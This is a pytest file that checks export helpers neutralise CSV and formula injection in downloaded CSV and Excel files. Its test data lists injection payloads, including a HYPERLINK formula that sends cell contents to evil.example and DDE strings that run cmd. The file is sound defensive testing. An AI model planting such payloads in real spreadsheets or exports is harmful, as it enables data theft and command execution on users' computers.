"""Text someone typed never becomes a formula in a downloaded CSV or Excel file (CSV/formula injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from tilstand.export import safe_cell, safe_frame, safe_rows

ATTACKS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klikk her")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(text):
    assert safe_cell(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row():
    assert safe_cell("ok.csv\r=1+1") == "ok.csv\n=1+1"
    assert safe_cell("linje 1\r\nlinje 2") == "linje 1\nlinje 2"


@pytest.mark.parametrize(
    "value",
    ["Anne Leder", "anne@kommune.no", "ssb_12275.csv", "-12", "+1,5", "−0,3", "1 234,5", "", None, 42, -3.5, True],
)
def test_ordinary_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def streamlit_csv(frame: pd.DataFrame) -> str:
    """The CSV st.dataframe's download button writes: a cell is quoted only when it holds a comma, a
    double quote or a line feed (streamlit 1.67, useDataExporter)."""

    def cell(v) -> str:
        s = "" if v is None else str(v)
        return '"' + s.replace('"', '""') + '"' if any(ch in s for ch in ',"\n') else s

    return "".join(",".join(cell(v) for v in row) + "\n" for row in [list(frame.columns), *frame.values.tolist()])


def test_a_table_downloaded_as_csv_has_no_cell_that_starts_a_formula():
    frame = pd.DataFrame({"Bruker": [*ATTACKS, "ok.csv\r=1+1"], "Antall": range(len(ATTACKS) + 1)})
    for text in (streamlit_csv(safe_frame(frame)), safe_frame(frame).to_csv(index=False)):
        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
        assert len(cells) == 2 * (len(ATTACKS) + 2)  # no cell broke into a new row
        assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    cells = [c for row in csv.reader(io.StringIO(streamlit_csv(frame), newline="")) for c in row]
    assert "=HYPERLINK" in "".join(c[:10] for c in cells)  # what happens without safe_frame
    assert list(safe_frame(frame)["Antall"]) == list(range(len(ATTACKS) + 1))  # numbers stay numbers
    assert frame["Bruker"][0].startswith("=")  # the caller's frame is not changed


def test_an_excel_file_gets_the_text_as_text_not_as_a_formula(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    for row in safe_rows([{"Bruker": a} for a in ATTACKS]):
        book.active.append(list(row.values()))
    book.save(tmp_path / "logg.xlsx")
    cells = [c for (c,) in openpyxl.load_workbook(tmp_path / "logg.xlsx").active.iter_rows()]
    assert [c.data_type for c in cells] == ["s"] * len(ATTACKS)
    unsafe = openpyxl.Workbook()
    unsafe.active.append([ATTACKS[0]])
    assert unsafe.active["A1"].data_type == "f"  # what the prefix prevents
